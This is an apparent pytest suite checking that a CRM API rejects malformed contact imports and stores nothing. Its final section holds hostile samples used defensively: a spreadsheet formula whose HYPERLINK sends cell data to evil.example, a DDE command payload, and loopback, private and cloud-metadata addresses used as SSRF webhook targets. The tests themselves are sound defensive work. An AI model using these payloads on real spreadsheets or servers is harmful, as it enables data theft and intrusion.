"""Bad input at the CRM API's edges (issue 12, items 4, 5 and 9), over real HTTP into a
real SQLite store: every one is a 4xx naming the line and the field, and nothing of the
request is stored — checked in the store after each refusal."""
from __future__ import annotations

import asyncio
import csv
import io
import json
from urllib.parse import quote

import aiohttp
import pytest

from controller.contacts import MAX_LINE, MAX_ROWS
from controller_harness import running

CALL = [{"kind": "call", "attempts": 2}]

#: The ``controller`` fixture's controller only serves the API: no dispatch loop.
pytestmark = pytest.mark.controller(dispatch=False)


def auth(key):
    return {"Authorization": f"Bearer {key}"}


def stored(c, table: str = "contacts") -> int:
    return c.store.conn.execute(f"SELECT COUNT(*) FROM {table}").fetchone()[0]


async def new_campaign(s, c, key, cid: str = "c1") -> None:
    async with s.post(f"{c.url}/v1/campaigns", json={"id": cid, "strategy": CALL}, headers=auth(key)) as r:
        assert r.status == 201


async def post(s, c, key, body: bytes, ctype: str = "application/json", cid: str = "c1"):
    async with s.post(f"{c.url}/v1/campaigns/{cid}/contacts", data=body, headers={**auth(key), "Content-Type": ctype}) as r:
        return r.status, await r.json()


def rows_json(n: int, **change: dict) -> bytes:
    """``n`` good rows as JSON text; ``change`` maps a 1-based line to raw JSON text of fields
    to put in that row (so numbers JSON cannot hold in a float, like 1e400, stay as written)."""
    parts = []
    for i in range(1, n + 1):
        extra = change.get(f"line{i}", "")
        parts.append(f'{{"external_id": "e{i}", "phones": ["+48600{i:06d}"], "name": "D {i}"{extra}}}')
    return ("[" + ",".join(parts) + "]").encode()


def errors_of(body) -> list[tuple[int, str]]:
    assert body["code"] == "invalid_rows" and body["errors"] == body["report"]["errors"], body
    return [(e["line"], e["field"]) for e in body["errors"]]


# -- item 4: amounts, sizes, nesting, quoting, counts ------------------------------------------------
async def test_an_amount_of_30_digits_in_row_17001_refuses_the_20000_row_import_and_stores_nothing(controller, http):
    c, key = controller
    s = http
    await new_campaign(s, c, key)
    status, body = await post(s, c, key, rows_json(20_000, line17001=', "amount": "1e30"'))
    assert status == 422 and body["code"] == "invalid_rows"
    rep = body["report"]
    assert errors_of(body) == [(17_001, "amount")] and "16 digits" in rep["errors"][0]["reason"]
    assert (rep["stored"], rep["rows"], rep["valid"], rep["rejected"], rep["duplicates"]) == (False, 20_000, 19_999, 1, 0)
    assert stored(c) == 0 and c.store.campaign_counts("c1")["total"] == 0
    # the same file, fixed, is stored whole
    status, rep = await post(s, c, key, rows_json(20_000, line17001=', "amount": "1000.00"'))
    assert status == 200 and (rep["created"], rep["updated"], rep["rows"]) == (20_000, 0, 20_000)
    assert stored(c) == 20_000


async def test_a_big_file_with_an_unknown_field_reports_every_bad_row_across_worker_slices(controller, http):
    """Rows of a body whose shape is off are read one by one (every bad row reported, not
    only the first) and still checked in the worker processes, 5,000 at a time."""
    c, key = controller
    s = http
    await new_campaign(s, c, key)
    body = rows_json(12_000, line7001=', "colour": "red"', line11999=', "phone": "+48600000001"',
                     line3=', "amount": "1,5"')
    status, out = await post(s, c, key, body)
    assert status == 422 and errors_of(out) == [(7_001, "colour"), (11_999, "phone")]
    assert (out["report"]["rows"], out["report"]["valid"], out["report"]["rejected"]) == (12_000, 11_998, 2)
    assert stored(c) == 0


@pytest.mark.parametrize("amount", ['"1e30"', '"1e400"', "1e30", "1e400", "1" + "0" * 30, "9" * 5000, '"10.555"',
                                    '"12345678901234567"', '"-5"', '"NaN"', "true"])
async def test_amounts_out_of_range_are_a_422_naming_line_and_field(controller, http, amount):
    c, key = controller
    s = http
    await new_campaign(s, c, key)
    status, body = await post(s, c, key, rows_json(3, line2=f', "amount": {amount}'))
    assert status == 422, body
    assert errors_of(body) == [(2, "amount")] and body["report"]["rows"] == 3
    assert stored(c) == 0


async def test_the_largest_amount_and_two_decimals_are_kept_exactly(controller, http):
    c, key = controller
    s = http
    await new_campaign(s, c, key)
    status, rep = await post(s, c, key, rows_json(2, line1=', "amount": "9999999999999999.99"', line2=', "amount": 10.5'))
    assert status == 200 and rep["created"] == 2
    assert [r["amount"] for r in c.store.list_contacts("c1", 0, 10)] == ["9999999999999999.99", "10.50"]


async def test_a_csv_field_over_the_csv_modules_limit_is_a_422_with_its_line_and_column(controller, http):
    text = ("external_id,phones,name\n"
            "a1,+48600100200,Jan\n"
            f"a2,+48600100201,{'x' * 200_000}\n"
            f"a3,+48600100202,{'y' * 300}\n")
    c, key = controller
    s = http
    await new_campaign(s, c, key)
    status, body = await post(s, c, key, text.encode(), "text/csv")
    assert status == 422
    assert errors_of(body) == [(3, "name"), (4, "name")]
    assert f"{MAX_LINE:,}" in body["errors"][0]["reason"] and "200" in body["errors"][1]["reason"]
    assert len(json.dumps(body)) < 5000  # the 200,000-character cell does not come back
    assert stored(c) == 0


def nested(depth: int) -> str:
    return "[" * depth + "]" * depth


@pytest.mark.parametrize("body,line,field", [
    (f'[{{"external_id": "a", "phones": ["+48600100200"]}}, {{"external_id": "b", "name": {nested(100_000)}}}]', 2, "name"),
    (f'[{{"external_id": "a", "phones": ["+48600100200"]}}, {{"external_id": "b", "colour": {nested(100_000)}}}]', 2, "colour"),
    (f'{{"contacts": [{nested(100_000)}]}}', 1, "row"),
    (nested(100_000), 1, "row"),
])
async def test_json_nested_100000_deep_is_a_4xx_with_line_and_field(controller, http, body, line, field):
    c, key = controller
    s = http
    await new_campaign(s, c, key)
    status, out = await post(s, c, key, body.encode())
    assert 400 <= status < 500 and {"type", "title", "status", "detail", "instance", "errors"} <= set(out)
    found = out["errors"][0]
    assert (found["line"], found["field"]) == (line, field), out
    assert stored(c) == 0


@pytest.mark.parametrize("path", ["/v1/campaigns", "/v1/optouts", "/v1/webhooks", "/v1/webhooks/dead-letters/replay"])
async def test_deep_json_and_huge_integers_on_other_routes_are_a_400_naming_the_body(controller, http, path):
    c, key = controller
    s = http
    for body in ('{"ids": ' + nested(100_000) + "}", '{"ids": [' + "9" * 5000 + "]}"):
        async with s.post(f"{c.url}{path}", data=body.encode(), headers={**auth(key), "Content-Type": "application/json"}) as r:
            out = await r.json()
        assert r.status == 400 and out["code"] == "bad_json" and out["errors"][0]["field"] == "body"
    assert stored(c, "campaigns") == 0 and stored(c, "optouts") == 0 and stored(c, "webhooks") == 0


async def test_an_unterminated_quote_is_reported_at_its_line_instead_of_swallowing_the_rows_below(controller, http):
    text = ("external_id,phones,name\n"
            "a1,+48600100200,Jan\n"
            'a2,+48600100201,"Kowalski, Jan\n'
            "a3,+48600100202,Ola\n"
            "a4,+48600100203,Ewa\n")
    c, key = controller
    s = http
    await new_campaign(s, c, key)
    status, body = await post(s, c, key, text.encode(), "text/csv")
    assert status == 422 and errors_of(body) == [(3, "name")]
    assert "unterminated quote" in body["errors"][0]["reason"]
    assert stored(c) == 0


async def test_misquoted_fields_and_extra_cells_are_reported_per_line(controller, http):
    text = ("external_id,phones,name\n"
            'a1,+48600100200,"Jan" Kowalski\n'
            "a2,+48600100201,Kowalski, Jan\n"
            "\n"
            'a3,+48600100202,"Nowak, ""Ola"""\n')
    c, key = controller
    s = http
    await new_campaign(s, c, key)
    status, body = await post(s, c, key, text.encode(), "text/csv")
    assert status == 422 and errors_of(body) == [(2, "name"), (3, "column 4")]
    assert (body["report"]["rows"], body["report"]["valid"]) == (3, 1)
    assert stored(c) == 0
    # well quoted, the same names are fine
    fixed = text.replace('"Jan" Kowalski', '"""Jan"" Kowalski"').replace("Kowalski, Jan", '"Kowalski, Jan"')
    status, rep = await post(s, c, key, fixed.encode(), "text/csv")
    assert status == 200 and rep["created"] == 3
    assert [r["name"] for r in c.store.list_contacts("c1", 0, 10)] == ['"Jan" Kowalski', "Kowalski, Jan", 'Nowak, "Ola"']


async def test_row_counts_body_type_and_encoding_are_bounded_with_a_clear_4xx(controller, http):
    c, key = controller
    s = http
    await new_campaign(s, c, key)
    status, out = await post(s, c, key, json.dumps([{}] * (MAX_ROWS + 1)).encode())
    assert status == 413 and out["errors"][0]["field"] == "body" and "100,000" in out["errors"][0]["reason"]
    many = "external_id,phones\n" + "".join(f"e{i},+48600{i:06d}\n" for i in range(MAX_ROWS + 1))
    status, out = await post(s, c, key, many.encode(), "text/csv")
    assert status == 413 and out["errors"][0]["field"] == "body"
    status, out = await post(s, c, key, b"external_id,phones\na1,+48600100200\n", "text/plain")
    assert status == 415 and out["errors"][0]["field"] == "Content-Type"
    status, out = await post(s, c, key, "external_id,phones,name\na1,+48600100200,Łukasz\n".encode("cp1250"), "text/csv")
    assert status == 400 and (out["errors"][0]["line"], out["errors"][0]["field"]) == (2, "body")
    status, out = await post(s, c, key, b"external_id,phone,phone\na1,+48600100200,+48600100201\n", "text/csv")
    assert status == 400 and (out["errors"][0]["line"], out["errors"][0]["field"]) == (1, "phone")
    assert stored(c) == 0


# -- item 5: numbers that are not numbers, duplicates, counts --------------------------------------
@pytest.mark.parametrize("number", ["+48 60a bcd efg", "+48600100200 ext 5", "tel:+48600100200", "+48 600 I00 200"])
async def test_letters_in_numbers_are_refused_by_import_and_opt_outs(controller, http, number):
    c, key = controller
    s = http
    await new_campaign(s, c, key)
    status, body = await post(s, c, key, json.dumps([{"external_id": "a", "phones": ["+48600100200"]},
                                                     {"external_id": "b", "phones": [number]}]).encode())
    assert status == 422 and errors_of(body) == [(2, "phones")] and "letters" in body["errors"][0]["reason"]
    out = io.StringIO()
    csv.writer(out).writerows([["external_id", "phones"], ["a", "+48600100200"], ["b", f"+48600100201;{number}"]])
    status, body = await post(s, c, key, out.getvalue().encode(), "text/csv")
    assert status == 422 and errors_of(body) == [(3, "phones")]
    async with s.post(f"{c.url}/v1/optouts", json={"number": number}, headers=auth(key)) as r:
        assert r.status == 400 and (await r.json())["errors"][0]["field"] == "number"
    async with s.delete(f"{c.url}/v1/optouts/{quote(number, safe='')}", headers=auth(key)) as r:
        assert r.status == 400 and (await r.json())["errors"][0]["field"] == "number"
    assert stored(c) == 0 and stored(c, "optouts") == 0


async def test_written_forms_of_a_number_are_still_accepted(controller, http):
    c, key = controller
    s = http
    await new_campaign(s, c, key)
    forms = ["+48 (600) 100-200", "+48.600.100.201", "600 100 202", "+48\u00a0600\u00a0100\u00a0203"]
    status, rep = await post(s, c, key, json.dumps([{"external_id": f"e{i}", "phones": [f], "region": "PL"}
                                                    for i, f in enumerate(forms)]).encode())
    assert status == 200 and rep["created"] == 4
    assert [r["phones"] for r in c.store.list_contacts("c1", 0, 10)] == [
        ["+48600100200"], ["+48600100201"], ["+48600100202"], ["+48600100203"]]


async def test_duplicate_external_ids_in_one_file_are_reported_per_line_with_both_lines(controller, http):
    text = ("external_id,phones\n"
            "a1,+48600100200\n"
            "b1,+48600100201\n"
            "a1,+48600100202\n"
            "c1,not-a-number\n"
            " a1 ,+48600100204\n")
    c, key = controller
    s = http
    await new_campaign(s, c, key)
    status, body = await post(s, c, key, text.encode(), "text/csv")
    assert status == 422
    rep = body["report"]
    assert errors_of(body) == [(4, "external_id"), (5, "phones"), (6, "external_id")]
    assert "also on line 2" in rep["errors"][0]["reason"] and "also on line 2" in rep["errors"][2]["reason"]
    assert (rep["rows"], rep["valid"], rep["rejected"], rep["duplicates"], rep["errors_total"]) == (5, 2, 1, 2, 3)
    assert rep["rows"] == rep["valid"] + rep["rejected"] + rep["duplicates"]
    assert stored(c) == 0
    # JSON positions likewise
    rows = [{"external_id": "x", "phones": ["+48600100200"]}] * 3
    status, body = await post(s, c, key, json.dumps(rows).encode())
    assert status == 422 and errors_of(body) == [(2, "external_id"), (3, "external_id")]
    assert stored(c) == 0


async def test_a_key_repeated_in_another_worker_slice_refuses_the_import_and_stores_nothing(controller, http):
    """The repeat is told once every slice is checked (the keys come back from the worker
    processes): by then, on PostgreSQL, the first slices are in the import's COPY, which
    the repeat breaks on the unique key. Nothing of it stays; the same file without the
    repeat is stored whole, and a re-import of it counts every row as known."""
    c, key = controller
    s = http
    await new_campaign(s, c, key)
    rows = json.loads(rows_json(12_000))
    rows[10_999]["external_id"] = " e3 "  # line 11,000 (a third slice) repeats line 3's key, padded
    status, body = await post(s, c, key, json.dumps(rows).encode())
    assert status == 422 and errors_of(body) == [(11_000, "external_id")]
    assert "also on line 3" in body["report"]["errors"][0]["reason"]
    assert (body["report"]["valid"], body["report"]["duplicates"]) == (11_999, 1)
    assert stored(c) == 0 and c.store.campaign_counts("c1")["total"] == 0
    status, rep = await post(s, c, key, rows_json(12_000))
    assert status == 200 and (rep["created"], rep["updated"]) == (12_000, 0) and stored(c) == 12_000
    status, rep = await post(s, c, key, rows_json(12_000))
    assert status == 200 and (rep["created"], rep["updated"]) == (0, 12_000) and stored(c) == 12_000


async def test_counts_add_up_when_stored(controller, http):
    c, key = controller
    s = http
    await new_campaign(s, c, key)
    status, rep = await post(s, c, key, rows_json(5))
    assert status == 200 and (rep["created"], rep["updated"]) == (5, 0)
    status, rep = await post(s, c, key, rows_json(8))
    assert status == 200 and (rep["rows"], rep["created"], rep["updated"], rep["valid"]) == (8, 3, 5, 8)
    assert rep["rows"] == rep["created"] + rep["updated"] + rep["rejected"] + rep["duplicates"]


# -- item 9: formula cells, webhook targets ----------------------------------------------------------
FORMULAS = {"name": '=HYPERLINK("http://evil.example/?x="&A1,"Zapłać")', "case_ref": "+cmd|' /C calc'!A0"}


async def test_formula_cells_are_stored_flagged_on_import_and_neutralised_in_the_csv_export(controller, http):
    rows = [{"external_id": "a1", "phones": ["+48600100200"], **FORMULAS},
            {"external_id": "@SUM(1+1)", "phones": ["+48600100201"], "name": "-2+3"},
            {"external_id": "a3", "phones": ["+48600100202"], "name": "Jan Kowalski", "case_ref": "K/3"}]
    c, key = controller
    s = http
    await new_campaign(s, c, key)
    status, rep = await post(s, c, key, json.dumps(rows).encode())
    assert status == 200 and rep["created"] == 3 and rep["warnings_total"] == 4
    assert [(w["line"], w["field"]) for w in rep["warnings"]] == [(1, "name"), (1, "case_ref"), (2, "external_id"), (2, "name")]
    async with s.get(f"{c.url}/v1/campaigns/c1/contacts", headers=auth(key)) as r:
        items = (await r.json())["items"]
    assert items[0]["name"] == FORMULAS["name"] and items[0]["case_ref"] == FORMULAS["case_ref"]  # data, verbatim
    assert [i["formula_fields"] for i in items] == [["name", "case_ref"], ["external_id", "name"], []]
    async with s.get(f"{c.url}/v1/campaigns/c1/contacts?limit=2", headers={**auth(key), "Accept": "text/csv"}) as r:
        assert r.status == 200 and r.content_type == "text/csv"
        assert "after=2" in r.headers["Link"]
        table = list(csv.DictReader(io.StringIO(await r.text())))
    assert table[0]["name"] == "'" + FORMULAS["name"] and table[0]["case_ref"] == "'" + FORMULAS["case_ref"]
    assert table[1]["external_id"] == "'@SUM(1+1)" and table[1]["name"] == "'-2+3"
    assert table[0]["phones"] == "+48600100200"  # a phone field is a validated number, not a formula


@pytest.mark.parametrize("url", [
    "http://127.0.0.1:8080/hook", "http://localhost/hook", "http://127.1/hook", "http://2130706433/hook",
    "http://10.0.0.5/hook", "http://172.16.3.4/hook", "http://192.168.1.10/hook", "http://169.254.169.254/latest/meta-data",
    "http://100.64.0.1/hook", "http://0.0.0.0/hook", "http://224.0.0.251/hook", "http://[::1]/hook",
    "http://[fe80::1]/hook", "http://[fd00::1]/hook", "http://[ff02::1]/hook", "http://[::]/hook",
    "http://[::ffff:127.0.0.1]/hook", "http://[::ffff:10.0.0.1]/hook", "http://no-such-host.invalid/hook",
])
async def test_webhook_targets_on_loopback_or_private_ranges_are_refused_by_default(controller, http, url):
    c, key = controller
    s = http
    async with s.post(f"{c.url}/v1/webhooks", json={"url": url}, headers=auth(key)) as r:
        out = await r.json()
    assert r.status == 400 and out["errors"][0]["field"] == "url", out
    assert stored(c, "webhooks") == 0


async def test_allow_private_admits_a_receiver_on_loopback_and_a_public_address_needs_no_setting(tmp_path, make_controller_config):
    cfg = make_controller_config(webhooks={"allow_private": True})
    async with running(cfg, dispatch=False) as (c, key), aiohttp.ClientSession() as s:
        async with s.post(f"{c.url}/v1/webhooks", json={"url": "http://127.0.0.1:8080/hook"}, headers=auth(key)) as r:
            assert r.status == 201
    async with running(make_controller_config(), dispatch=False) as (c, key), aiohttp.ClientSession() as s:
        async with s.post(f"{c.url}/v1/webhooks", json={"url": "https://93.184.215.14/hook"}, headers=auth(key)) as r:
            assert r.status == 201  # a literal public address: nothing to resolve


async def test_a_target_that_resolves_to_loopback_at_delivery_time_is_not_contacted(tmp_path, make_controller_config):
    """DNS rebinding: the name was public when registered and points at loopback later.
    The stored row stands for that registration; the delivery looks the name up again."""
    from aiohttp import web

    calls = []

    async def hook(request):
        calls.append(await request.read())
        return web.Response(status=204)

    app = web.Application()
    app.router.add_post("/hook", hook)
    runner = web.AppRunner(app)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    port = site._server.sockets[0].getsockname()[1]
    try:
        cfg = make_controller_config(webhooks={"backoff_seconds": 0.05, "max_attempts": 2})
        async with running(cfg) as (c, key), aiohttp.ClientSession() as s:
            for i, host in enumerate(("localhost", "127.0.0.1")):
                c.store.add_webhook(f"wh_{i}", f"http://{host}:{port}/hook", "s" * 20, ["inbound"], c.clock())
            c.reports.add_inbound("box", [{"id": "in-1", "kind": "sms", "from": "+48600100200", "text": "hi"}], c.clock())
            c.wake()
            for _ in range(200):
                async with s.get(f"{c.url}/v1/webhooks/dead-letters", headers=auth(key)) as r:
                    dead = (await r.json())["items"]
                if len(dead) == 2:
                    break
                await asyncio.sleep(0.05)
            assert len(dead) == 2 and all("loopback" in d["last_error"] for d in dead), [d["last_error"] for d in dead]
        assert calls == []
    finally:
        await runner.cleanup()


def test_the_import_transaction_checks_the_campaign_and_reopens_a_done_one(open_store):
    """The state check and the write are one transaction: a campaign cancelled while its
    import was being checked gets nothing; a done campaign given new contacts runs again."""
    from controller.contacts import ContactRow
    from controller.store import Conflict

    store = open_store()
    rows = [ContactRow("a", ("+48600100200",)), ContactRow("b", ("+48600100201",))]
    for cid, state in (("gone", "cancelled"), ("fin", "done")):
        store.create_campaign(cid, cid, [], {}, 0.0)
        assert store.set_campaign_state(cid, "running", state, 0.0)
    with pytest.raises(Conflict):
        store.upsert_contacts("gone", rows, 1.0, closed=("cancelled",), reopen={"done": "running"})
    assert store.campaign_counts("gone")["total"] == 0
    with pytest.raises(Conflict):
        store.upsert_contacts("nope", rows, 1.0, closed=("cancelled",))
    assert store.upsert_contacts("fin", rows, 1.0, closed=("cancelled",), reopen={"done": "running"}) == (2, 0)
    assert store.get_campaign("fin")["state"] == "running" and store.campaign_counts("fin")["waiting"] == 2
